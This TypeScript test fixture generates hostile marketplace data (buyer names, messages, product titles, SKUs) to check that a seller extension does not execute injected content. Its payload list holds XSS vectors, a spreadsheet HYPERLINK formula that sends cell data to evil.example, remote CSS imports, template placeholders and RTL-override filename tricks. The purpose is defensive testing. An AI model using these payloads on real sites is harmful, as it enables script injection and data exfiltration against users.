/**
 * Hostile replica data (`generateReplicaData({ hostile: true })`): HTML/script payloads, `javascript:` URLs,
 * mustache placeholders, spreadsheet formulas, RTL/zero-width characters and very long strings in every
 * buyer-controlled text (buyer names, subjects, message texts, feedback comments, return comments, review
 * titles) and in the seller's product titles and SKUs. Ids (threads, orders, ASINs, buyers, marketplaces)
 * stay valid. Applied after generation, without the generator's random stream: the rest of the data is the
 * same as for the same seed without `hostile`.
 *
 * Every payload that would run as script sets `window.__siXss` (`XSS_FLAG`): a page where that global is set
 * executed buyer data. Payloads with an absolute URL point at `evil.example`, so markup that got parsed also
 * shows up as a blocked request in the harness.
 */
import type { Language } from '../../../lib/model';
import type { ReplicaData, ReplicaProduct } from './types';

export const XSS_FLAG = '__siXss';

/** Short payloads, cycled over the records (kept free of double spaces so text comparisons stay literal). */
export const HOSTILE_PAYLOADS: readonly string[] = [
  '<img src=x onerror="window.__siXss=1">',
  '<script>window.__siXss=1</script>',
  '"><svg onload=window.__siXss=1>',
  "'><img src=https://evil.example/p.png onerror=window.__siXss=1>",
  'javascript:window.__siXss=1//',
  '<a href="javascript:window.__siXss=1">click</a>',
  '</textarea></style></script><iframe srcdoc="<script>parent.__siXss=1</script>"></iframe>',
  '{{order_id}} {{{buyer_name}}} {{#items}}{{sku}}{{/items}}',
  '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
  '\u202Eelif.exe\u202C \u200Bzero\u200Dwidth\uFEFF\u2063mark',
  '${window.__siXss=1}<details open ontoggle=window.__siXss=1>',
  '<style>@import "https://evil.example/x.css";</style><link rel=stylesheet href=https://evil.example/y.css>',
];

/** What the long strings are built from (repeated). */
const LONG_UNIT = '<b>long</b>\u200B ';
export const longText = (n: number, head = ''): string => {
  let s = head;
  while (s.length < n) s += LONG_UNIT;
  return s.slice(0, n);
};
/** Lengths of the very long values (above every limit of the extension's protocol schemas). */
export const HOSTILE_LONG = { buyerName: 600, subject: 3_000, message: 30_000, title: 5_000, sku: 500, comment: 5_000 } as const;

const payload = (i: number): string => HOSTILE_PAYLOADS[i % HOSTILE_PAYLOADS.length] ?? '';
/** payload before the value for even i, after it for odd i */
const wrap = (value: string, i: number): string => (i % 2 === 0 ? `${payload(i)} ${value}` : `${value} ${payload(i)}`);

/** Every 11th buyer, product, thread... (from the 5th) carries a very long value instead of a short payload. */
const isLong = (i: number): boolean => i % 11 === 5;

const LANGS: Language[] = ['en', 'de', 'fr', 'it', 'es', 'ja'];

export const makeHostile = (data: ReplicaData): ReplicaData => {
  // buyers: names, payloads handed out first to the buyers of the first account's first marketplace in thread
  // order, so that its list shows every payload (invariants.ts: hostile-every-payload-listed)
  const rank = new Map<string, number>();
  const home = data.accounts[0];
  for (const t of data.threads) {
    if (t.buyerId && t.accountId === home?.merchantId && t.marketplaceId === home.marketplaceIds[0] && !rank.has(t.buyerId)) rank.set(t.buyerId, rank.size);
  }
  for (const b of data.buyers) if (!rank.has(b.buyerId)) rank.set(b.buyerId, rank.size);
  const buyerNames = new Map<string, string>();
  data.buyers.forEach((b) => {
    const i = rank.get(b.buyerId) ?? 0;
    b.name = isLong(i) ? longText(HOSTILE_LONG.buyerName, `${payload(i)} ${b.name} `) : wrap(b.name, i);
    buyerNames.set(b.buyerId, b.name);
  });

  // products: titles (every language) and SKUs; order items and returns follow by ASIN
  const skus = new Map<string, string>();
  const titleFor = (p: ReplicaProduct, i: number, lang: Language): string =>
    isLong(i) ? longText(HOSTILE_LONG.title, `${payload(i)} ${p.titles[lang]} `) : wrap(p.titles[lang], i);
  const titles = new Map<string, Record<Language, string>>();
  data.products.forEach((p, i) => {
    const t = Object.fromEntries(LANGS.map((lang) => [lang, titleFor(p, i, lang)])) as Record<Language, string>;
    p.titles = t;
    titles.set(p.asin, t);
    p.sku = isLong(i + 3) ? longText(HOSTILE_LONG.sku, `${p.sku}${payload(i + 3)}`) : `${p.sku}${payload(i + 3)}`;
    skus.set(p.asin, p.sku);
  });
  const buyerLanguage = new Map(data.buyers.map((b) => [b.buyerId, b.language]));
  for (const order of data.orders) {
    const lang = buyerLanguage.get(order.buyerId) ?? 'en';
    for (const item of order.items) {
      item.sku = skus.get(item.asin) ?? item.sku;
      item.title = titles.get(item.asin)?.[lang] ?? item.title;
    }
  }
  data.returns.forEach((r, i) => {
    r.sku = skus.get(r.asin) ?? r.sku;
    if (r.customerComments !== undefined) r.customerComments = wrap(r.customerComments, i);
  });

  // threads: buyer names, subjects, message texts
  data.threads.forEach((t, i) => {
    if (t.buyerId && buyerNames.has(t.buyerId)) t.buyerName = buyerNames.get(t.buyerId) ?? t.buyerName;
    t.subject = isLong(i) ? longText(HOSTILE_LONG.subject, `${payload(i)} ${t.subject} `) : wrap(t.subject, i + 1);
    t.messages.forEach((m, j) => {
      if (m.from === 'buyer') {
        m.senderName = t.buyerName;
        m.text = isLong(i) && j === 0 ? longText(HOSTILE_LONG.message, `${m.text}\n${payload(i + j)}\n`) : `${m.text}\n${payload(i + j + 2)}`;
      }
      m.attachments.forEach((a, k) => { a.name = `${payload(i + k)}.pdf`; });
    });
  });

  data.feedback.forEach((f, i) => {
    f.comment = isLong(i) ? longText(HOSTILE_LONG.comment, `${payload(i)} ${f.comment} `) : wrap(f.comment, i);
  });
  data.reviews.forEach((r, i) => { r.title = wrap(r.title, i); });
  return data;
};
